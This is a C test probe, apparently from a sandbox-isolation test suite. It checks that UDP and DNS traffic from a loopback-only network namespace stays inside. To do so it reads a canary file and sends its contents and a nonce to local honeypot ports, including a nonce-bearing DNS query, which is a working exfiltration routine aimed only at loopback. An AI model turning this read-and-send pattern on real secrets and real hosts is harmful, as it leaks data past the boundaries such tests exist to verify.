/* net.loopback.udp_dns — catalog N02/N03 under `net = loopback`. With a private lo up, UDP sends succeed
 * locally (no ENETUNREACH any more), so only the namespace keeps them off the host: the datagrams must land
 * on the sandbox's own lo and vanish. The attack sends the nonce and canary bytes to the UDP honeypot, a DNS
 * query carrying the nonce to the DNS honeypot and to 127.0.0.1:53 (names under .invalid), and to the v4
 * mapped address on a dual-stack socket, then listens briefly on its own lo to show where they went.
 * Args: udp_port dns_port nonce canary_file canary_fd */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void udp(const char *label, int port, const void *d, size_t n) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    printf("%-8s 127.0.0.1:%d: %s\n", label, port, sendto(s, d, n, 0, (struct sockaddr *)&a, sizeof a) >= 0 ? "SENT" : strerror(errno));
    close(s);
    s = socket(AF_INET6, SOCK_DGRAM, 0);
    struct sockaddr_in6 b = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port)};
    inet_pton(AF_INET6, "::ffff:127.0.0.1", &b.sin6_addr);
    printf("%-8s [::ffff:127.0.0.1]:%d: %s\n", label, port, sendto(s, d, n, 0, (struct sockaddr *)&b, sizeof b) >= 0 ? "SENT" : strerror(errno));
    close(s);
}

int main(int argc, char **argv) {
    if (argc < 6) return 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    int uport = atoi(argv[1]), dport = atoi(argv[2]);
    const char *nonce = argv[3];
    char p[2048];
    int pl = snprintf(p, 1024, "gauntlet-%s loopback udp exfil:", nonce);
    int fd = open(argv[4], O_RDONLY);
    ssize_t n = -1;
    if (fd >= 0) { n = read(fd, p + pl, 512); close(fd); }
    if (n <= 0) n = pread(atoi(argv[5]), p + pl, 512, 0);
    if (n > 0) pl += (int)n;

    /* listen on our own lo at the honeypot port to see where our datagram goes */
    int own = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    struct sockaddr_in oa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)uport), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int bound = bind(own, (struct sockaddr *)&oa, sizeof oa) == 0;
    udp("udp", uport, p, (size_t)pl);
    if (bound) {
        char b[256];
        printf("own lo listener on %d received our datagram: %s\n", uport, recv(own, b, sizeof b, 0) > 0 ? "yes (the sandbox's own lo)" : "no");
    }
    close(own);

    unsigned char q[300] = {0x47, 0x47, 0x01, 0, 0, 1, 0, 0, 0, 0, 0, 0};
    size_t o = 12;
    char name[128];
    snprintf(name, sizeof name, "%s.loopback.gauntlet.invalid", nonce);
    for (char *t = strtok(name, "."); t; t = strtok(NULL, ".")) {
        size_t l = strlen(t) > 63 ? 63 : strlen(t);
        q[o++] = (unsigned char)l;
        memcpy(q + o, t, l);
        o += l;
    }
    q[o++] = 0, q[o++] = 0, q[o++] = 1, q[o++] = 0, q[o++] = 1;
    udp("dns", dport, q, o);
    udp("dns53", 53, q, o);
    return 0;
}
